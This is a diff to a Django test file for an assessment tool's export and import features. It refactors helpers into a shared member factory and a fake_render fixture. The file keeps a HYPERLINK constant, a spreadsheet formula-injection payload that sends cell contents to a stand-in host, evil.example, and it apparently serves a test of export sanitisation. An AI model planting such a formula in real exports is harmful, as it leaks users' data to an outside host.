@@ -15,7 +15,6 @@ from django.core.exceptions import ValidationError
 from django.core.management import CommandError, call_command
 from django.utils import timezone
 
-from assessments.briefs import render as briefs
 from assessments.content.selectors import AssessmentData
 from assessments.interchange.document import assessment_document
 from assessments.interchange.importer import import_assessment
@@ -36,27 +35,16 @@ from tests.factories import (
     AssessmentFactory,
     ComponentTagFactory,
     IndicatorFactory,
-    MembershipFactory,
     PopulationGroupFactory,
     ResponseFactory,
     ThreatFactory,
-    UserFactory,
+    member,
 )
 
 pytestmark = pytest.mark.django_db
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 MODELS = (Assessment, Answer, PopulationGroup, Threat, ComponentTag, Indicator, Response)
-
-
-@pytest.fixture
-def quick_render(monkeypatch):
-    """Approval renders the brief; these tests need only the approved status."""
-    monkeypatch.setattr(briefs, "render_brief_pdf", lambda **kwargs: b"%PDF-1.7 stand-in")
-
-
-def _member(team, username, role=Membership.Role.PRACTITIONER):
-    return MembershipFactory(team=team, user=UserFactory(username=username), role=role).user
 
 
 def _counts() -> dict[str, int]:
@@ -66,7 +54,7 @@ def _counts() -> dict[str, int]:
 @pytest.fixture
 def rich(team, practitioner, version):
     """Every exported field set to something other than its default."""
-    carl = _member(team, "carl")
+    carl = member(team, "carl")
     a = AssessmentFactory(
         title="Goma: displacement & land, 2025",
         team=team,
@@ -249,7 +237,7 @@ def test_export_import_export_round_trip(client, login, rich, practitioner, tmp_
 def test_import_service_into_another_team_keeps_only_collaborators_who_are_members(
     rich, other_team
 ):
-    owner = _member(other_team, "olga")
+    owner = member(other_team, "olga")
     document = json.loads(json.dumps(_document_of(rich)))
 
     copy = import_assessment(document=document, owner=owner, team=other_team)
@@ -319,13 +307,13 @@ def test_export_file_names_carry_a_slug_and_the_date(
 @pytest.mark.parametrize("who", ["owner", "teammate", "supervisor"])
 @pytest.mark.parametrize("approved", [False, True], ids=["draft", "approved"])
 def test_everyone_who_can_view_exports_the_data(
-    client, login, quick_render, assessment, practitioner, supervisor, team, who, approved
+    client, login, fake_render, assessment, practitioner, supervisor, team, who, approved
 ):
     if approved:
-        reviewer = _member(team, "rita", Membership.Role.SUPERVISOR)
+        reviewer = member(team, "rita", Membership.Role.SUPERVISOR)
         workflow.assessment_submit(assessment=assessment, user=practitioner)
         workflow.assessment_approve(assessment=assessment, user=reviewer)
-    user = {"owner": practitioner, "supervisor": supervisor}.get(who) or _member(team, "tess")
+    user = {"owner": practitioner, "supervisor": supervisor}.get(who) or member(team, "tess")
     login(user)
 
     as_json = client.get(f"/assessments/{assessment.pk}/export.json")
@@ -343,7 +331,7 @@ def test_everyone_who_can_view_exports_the_data(
 def test_other_teams_get_404_for_the_brief_and_the_exports(
     client, login, assessment, other_team, role, url
 ):
-    outsider = _member(other_team, "olga", role)
+    outsider = member(other_team, "olga", role)
 
     response = login(outsider).get(f"/assessments/{assessment.pk}/{url}")
 
